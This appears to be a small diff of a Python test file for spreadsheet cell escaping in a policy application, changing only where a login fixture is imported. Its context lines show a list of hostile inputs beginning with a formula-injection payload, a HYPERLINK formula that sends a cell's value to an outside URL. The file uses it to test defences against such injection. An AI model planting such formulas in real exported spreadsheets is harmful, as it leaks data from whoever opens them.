@@ -13,8 +13,7 @@ from contracts.services.common import audit
 from policy.models import AgencyRule
 from policy.services import rules as rule_services
 from policy.spreadsheet import FORMULA_STARTS, cell_escape, cell_unescape
-
-from .conftest import logged_in
+from tests.plugins.tenants import logged_in
 
 HOSTILE = [
     '=HYPERLINK("http://example.org/?q="&A1,"Obec")',
